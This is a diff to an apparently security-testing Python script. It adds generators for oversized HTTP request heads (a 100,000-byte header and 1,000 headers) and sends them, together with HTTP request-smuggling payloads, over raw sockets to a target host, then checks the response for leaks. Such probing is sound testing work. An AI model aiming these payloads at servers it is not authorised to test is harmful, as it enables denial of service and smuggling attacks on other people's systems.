@@ -160,18 +160,32 @@ SMUGGLE = {
 }
 
 
+def generated(case, host):
+    """Request heads too big to be reasonable."""
+    if case == "header-100k":
+        return ("GET /echo HTTP/1.1\r\nHost: %s\r\nX-Big: %s\r\n\r\n" % (host, "a" * 100_000)).encode()
+    if case == "headers-1000":
+        many = "".join("X-H%d: v\r\n" % i for i in range(1000))
+        return ("GET /echo HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (host, many)).encode()
+    return None
+
+
 def cmd_h1(host, case, tls="tls", port=None):
-    payload = SMUGGLE[case].replace(b"{h}", host.encode())
+    payload = generated(case, host) or SMUGGLE[case].replace(b"{h}", host.encode())
     debug = os.environ.get("ATTACK_DEBUG")
     if tls == "tls":
         s = connect_tls(host, int(port or 443))
     else:
         s = socket.create_connection((host, int(port or 80)), timeout=10)
-    s.sendall(payload)
+    note = ""
+    try:
+        s.sendall(payload)
+    except (OSError, ssl.SSLError):
+        note = " send-failed"
     buf = read_all(s, 5.0)
     if debug:
         sys.stderr.write(repr(buf[-600:]) + "\n")
-    out("statuses:" + ",".join(statuses(buf)) + " leaked:" + str(leaks(buf)))
+    out("statuses:" + ",".join(statuses(buf)) + " leaked:" + str(leaks(buf)) + note)
 
 
 SECRET = os.environ.get("ATTACK_SECRET", "")
